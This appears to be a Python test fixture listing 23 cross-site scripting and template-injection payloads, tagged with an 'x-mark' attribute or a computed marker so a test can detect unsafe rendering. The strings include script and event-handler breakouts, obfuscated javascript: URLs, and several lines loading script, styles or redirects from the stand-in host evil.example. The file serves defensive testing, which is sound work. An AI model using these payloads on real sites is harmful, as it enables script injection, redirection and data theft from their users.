"""What a stranger may write so that a careless page runs it: 23 ways, each of which would leave a mark.

A page that takes one of them for HTML has an element with the attribute ``x-mark``, or opens a dialog, asks a host, or
is reported by its own policy. A page that takes one for a template shows ``RECKONED``.
"""

PAYLOADS = (
    "<script x-mark>alert(1)</script>",
    '"><script x-mark src="https://evil.example/1.js"></script>',
    "'><img x-mark src=x onerror='alert(1)'>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x-mark="',
    "' onclick='alert(1)' x-mark='",
    "<svg x-mark onload=alert(1)><animate x-mark onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<math x-mark><mtext><table><mglyph><style><img x-mark src=x onerror=alert(1)></style></mglyph></table></math>",
    "<iframe x-mark srcdoc='<script>parent.alert(1)</script>'></iframe>",
    '<object x-mark data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    "</textarea></title></style></noscript><script x-mark>alert(1)</script>",
    "<details x-mark open ontoggle=alert(1)><summary>x</summary></details><input x-mark autofocus onfocus=alert(1)>",
    '<div x-mark hx-get="https://evil.example/hx" hx-trigger="load" hx-on:htmx:load="alert(1)">x</div>',
    '<meta x-mark http-equiv="refresh" content="0;url=//evil.example/"><base x-mark href="https://evil.example/">',
    '<link x-mark rel="stylesheet" href="//evil.example/a.css"><style x-mark>@import "//evil.example/b.css"</style>',
    '<form x-mark action="https://evil.example/"><button x-mark formaction="javascript:alert(1)">Go in</button></form>',
    "javascript:alert(1)//https://evil.example/",
    'JaVaScRiPt&colon;alert(1)<a x-mark href="java\tscript:alert(1)">click</a>',
    "[click](javascript:alert(1)) ![picture](https://evil.example/p.png) <https://evil.example/>",
    "{{ 8191 * 8191 }} ${8191*8191} #{8191*8191} <%= 8191*8191 %> {% for x in (1,) %}x{% endfor %} @(8191*8191)",
    "';alert(1);//\\';alert(1);//\";alert(1);//</script><script x-mark>alert(1)</script>",
    "data:text/html,<script x-mark>alert(1)</script>",
    "url(https://evil.example/u.png);}body{background:url(https://evil.example/v.png)}</style><b x-mark>",
    "＜script x-mark＞alert(1)＜/script＞\u2028<scr\u200bipt x-mark>alert(1)</scr\u200bipt>\u202etxet desrever\u202c"
    " &lt;b x-mark&gt; \ufeff&#60;b x-mark&#62;",
)
RECKONED = str(8191 * 8191)
